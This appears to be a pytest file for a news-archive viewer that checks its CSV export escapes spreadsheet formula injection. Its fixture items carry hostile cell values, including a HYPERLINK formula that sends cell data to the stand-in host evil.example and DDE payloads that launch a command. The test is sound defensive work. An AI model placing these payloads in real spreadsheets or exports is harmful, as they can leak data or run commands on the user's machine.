"""A spreadsheet never runs what an archive's titles, tags or addresses hold: `export-list --format csv`
read back with the csv module (issue 33: CSV formula injection)."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from viewer.export.reference_list import FORMULA_STARTS

Cli = Callable[..., tuple[int, str, str]]

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")'
ITEMS = [
    {"title": HOSTILE_TITLE, "tags": ["=1+1", "اقتصاد"], "url": "https://news.example.ir/1",
     "text": "متن نخستین خبر دربارهٔ بازار ارز است."},
    {"title": "+cmd|' /C calc'!A0", "tags": ["+cmd"], "url": "https://news.example.ir/2",
     "text": "متن دومین خبر دربارهٔ بارش برف است."},
    {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "tags": ["-2+3"], "url": "https://news.example.ir/3",
     "text": "متن سومین خبر دربارهٔ نمایشگاه کتاب است."},
    {"title": "-2+3 عنوان", "tags": ["@x"], "url": "https://news.example.ir/4",
     "text": "متن چهارمین خبر دربارهٔ قیمت نان است."},
    {"title": "خبری بی‌خطر", "tags": ["فرهنگ"], "url": "https://news.example.ir/5",
     "text": "متن پنجمین خبر دربارهٔ سینما است."},
]


@pytest.fixture
def exported(run_cli: Cli, tmp_path: Path) -> list[dict[str, str]]:
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "items.json").write_text(json.dumps(ITEMS, ensure_ascii=False), "utf-8")
    code, _, err = run_cli("index", str(folder))
    assert code == 0, err
    ids = [row["id"] for row in json.loads(run_cli("list", "--json")[1])]
    out = tmp_path / "list.csv"
    code, _, err = run_cli("export-list", *ids, "--format", "csv", "--out", str(out))
    assert code == 0, err
    with out.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_no_cell_starts_a_formula(exported: list[dict[str, str]]) -> None:
    assert len(exported) == len(ITEMS)
    for row in exported:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_the_text_is_kept_after_the_quote_mark(exported: list[dict[str, str]]) -> None:
    titles = {row["title"] for row in exported}
    assert "'" + HOSTILE_TITLE in titles and "'+cmd|' /C calc'!A0" in titles and "'-2+3 عنوان" in titles
    assert "خبری بی‌خطر" in titles  # harmless text stays as it was
    tags = {row["tags"] for row in exported}
    assert {"'=1+1; اقتصاد", "'+cmd", "'-2+3", "'@x", "فرهنگ"} <= tags
